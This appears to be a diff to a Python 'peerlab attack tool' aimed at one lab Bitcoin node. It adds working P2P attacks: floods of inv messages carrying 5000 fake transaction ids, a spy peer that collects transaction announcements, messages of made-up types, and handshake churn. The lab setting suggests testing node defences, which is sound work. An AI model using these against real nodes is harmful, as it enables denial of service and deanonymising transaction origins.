@@ -12,6 +12,12 @@ Kinds:
   inbound-flood   the same, then all dropped at once (inbound peers dropping)
   connect-listen  --connections connections one after the other, each held --hold s answering pings
                   and relaying nothing (LinkingLion-like)
+  inv-flood       handshake, then --messages inv messages of 5000 made-up transactions each, 0.2 s apart
+  spy-peer        handshake asking for transactions (relay), then --hold s taking every announcement and
+                  asking for none (peer-observer #43); the lab must make transactions meanwhile
+  unknown-messages  handshake, then --messages messages of made-up types, 0.2 s apart
+  handshake-churn --connections connections one after the other, each sending version, reading the
+                  node's version and leaving before verack
 Speaks Bitcoin's P2P protocol (v1 transport) through python-bitcoinlib (Debian's python3-bitcoinlib).
 Prints one line per step and a JSON summary last.
 """
@@ -29,8 +35,9 @@ import time
 from typing import Any
 
 import bitcoin
-from bitcoin.messages import MsgSerializable, msg_addr, msg_ping, msg_pong, msg_verack, msg_version
-from bitcoin.net import CAddress
+from bitcoin.core import Hash
+from bitcoin.messages import MsgSerializable, msg_addr, msg_inv, msg_ping, msg_pong, msg_verack, msg_version
+from bitcoin.net import CAddress, CInv
 
 PROTOCOL = 70016
 USER_AGENT = b"/peerlab-attack:1/"
@@ -41,12 +48,15 @@ def say(text: str) -> None:
 
 
 class Peer:
-    """One v1 P2P connection that has completed the version handshake."""
+    """One v1 P2P connection that has completed the version handshake (or, with verack=False, that
+    sent its version and read the node's, and sends no verack). relay: whether the node should
+    announce transactions to it (the version message's relay flag)."""
 
-    def __init__(self, host: str, port: int, timeout: float = 15.0) -> None:
+    def __init__(self, host: str, port: int, timeout: float = 15.0, relay: bool = False, verack: bool = True) -> None:
         self.sock = socket.create_connection((host, port), timeout=timeout)
         self.buffer = b""
         self.pings_answered = 0
+        self.announced = 0  # inventory entries the node sent us
         version = msg_version(PROTOCOL)
         version.nServices = 0
         version.nTime = int(time.time())
@@ -55,7 +65,7 @@ class Peer:
         version.nNonce = random.getrandbits(64)
         version.strSubVer = USER_AGENT
         version.nStartingHeight = 0
-        version.fRelay = False
+        version.fRelay = relay
         self.send(version)
         deadline = time.monotonic() + timeout
         got_version = got_verack = False
@@ -67,12 +77,19 @@ class Peer:
                 continue
             if message.command == b"version":
                 got_version = True
+                if not verack:
+                    return
                 self.send(msg_verack(PROTOCOL))
             elif message.command == b"verack":
                 got_verack = True
 
     def send(self, message: Any) -> None:
         self.sock.sendall(message.to_bytes())
+
+    def send_raw(self, command: bytes, payload: bytes = b"") -> None:
+        """A message of any type, framed as the network's (for types python-bitcoinlib does not know)."""
+        header = bitcoin.params.MESSAGE_START + command.ljust(12, b"\0") + len(payload).to_bytes(4, "little")
+        self.sock.sendall(header + Hash(payload)[:4] + payload)
 
     def receive(self, timeout: float) -> Any:
         """The next message (None for one python-bitcoinlib does not know); pings are answered."""
@@ -90,6 +107,8 @@ class Peer:
                     if message is not None and message.command == b"ping":
                         self.send(msg_pong(PROTOCOL, message.nonce))
                         self.pings_answered += 1
+                    elif message is not None and message.command == b"inv":
+                        self.announced += len(message.inv)
                     return message
             chunk = self.sock.recv(65536)
             if not chunk:
@@ -193,6 +212,55 @@ def connect_listen(host: str, port: int, args: argparse.Namespace) -> dict[str, 
     return {"connections": args.connections, "held": args.hold}
 
 
+def inv_flood(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
+    """inv messages of 5000 transactions nobody made (MSG_TX, random ids): far more than a node
+    announces and more than a node tracks per peer. The node asks for some; nothing is sent back."""
+    peer = Peer(host, port)
+    rng = random.Random(args.seed)
+    sent = 0
+    for index in range(args.messages):
+        message = msg_inv(PROTOCOL)
+        message.inv = [CInv() for _entry in range(5000)]
+        for entry in message.inv:
+            entry.type, entry.hash = 1, rng.randbytes(32)
+        peer.send(message)
+        sent += 5000
+        say(f"sent inv #{index + 1}: 5000 transactions")
+        peer.listen(0.2)
+    peer.listen(args.hold)
+    peer.close()
+    return {"entries": sent}
+
+
+def spy_peer(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
+    """Takes the node's transaction announcements for --hold s and asks for none, announces none."""
+    peer = Peer(host, port, relay=True)
+    peer.listen(args.hold)
+    peer.close()
+    say(f"took {peer.announced} announcements in {args.hold:.0f} s and asked for none")
+    return {"announced": peer.announced, "held": args.hold}
+
+
+def unknown_messages(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
+    peer = Peer(host, port)
+    rng = random.Random(args.seed)
+    for _count in range(args.messages):
+        peer.send_raw(("zz" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _char in range(6))).encode())
+        peer.listen(0.2)
+    say(f"sent {args.messages} messages of made-up types")
+    peer.listen(args.hold)
+    peer.close()
+    return {"messages": args.messages}
+
+
+def handshake_churn(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
+    for index in range(args.connections):
+        peer = Peer(host, port, verack=False)
+        peer.close()
+        say(f"connection #{index + 1}: sent version, read the node's, left")
+    return {"connections": args.connections}
+
+
 def subnet_flood(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
     return connections(host, port, args, drop=False)
 
@@ -202,22 +270,26 @@ def inbound_flood(host: str, port: int, args: argparse.Namespace) -> dict[str, A
 
 
 KINDS = {"addr-flood": addr_flood, "addr-oversized": addr_oversized, "ping-spam": ping_spam, "subnet-flood": subnet_flood,
-         "inbound-flood": inbound_flood,
-         "connect-listen": connect_listen}
-# Per kind: (connections, hold seconds).
-DEFAULTS = {"subnet-flood": (6, 40.0), "inbound-flood": (8, 25.0), "connect-listen": (4, 5.0)}
+         "inbound-flood": inbound_flood, "connect-listen": connect_listen, "inv-flood": inv_flood, "spy-peer": spy_peer,
+         "unknown-messages": unknown_messages, "handshake-churn": handshake_churn}
+# Per kind: (connections, hold seconds); and messages.
+DEFAULTS = {"subnet-flood": (6, 40.0), "inbound-flood": (8, 25.0), "connect-listen": (4, 5.0), "spy-peer": (1, 40.0),
+            "handshake-churn": (12, 0.0)}
+MESSAGES = {"inv-flood": 4, "unknown-messages": 20}
 
 
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(description="peerlab attack tool (P2P, against one lab node)")
     parser.add_argument("kind", choices=sorted(KINDS))
     parser.add_argument("--target", required=True, help="host:port of the node's P2P listener")
-    parser.add_argument("--messages", type=int, default=3)
+    parser.add_argument("--messages", type=int, default=0)
     parser.add_argument("--pings", type=int, default=8)
     parser.add_argument("--every", type=float, default=1.0)
     parser.add_argument("--connections", type=int, default=0)
     parser.add_argument("--hold", type=float, default=-1)
+    parser.add_argument("--seed", type=int, default=0, help="for made-up transaction ids and message types")
     args = parser.parse_args(argv)
+    args.messages = args.messages or MESSAGES.get(args.kind, 3)
     connections_default, hold_default = DEFAULTS.get(args.kind, (1, 3.0))
     args.connections = args.connections or connections_default
     args.hold = hold_default if args.hold < 0 else args.hold
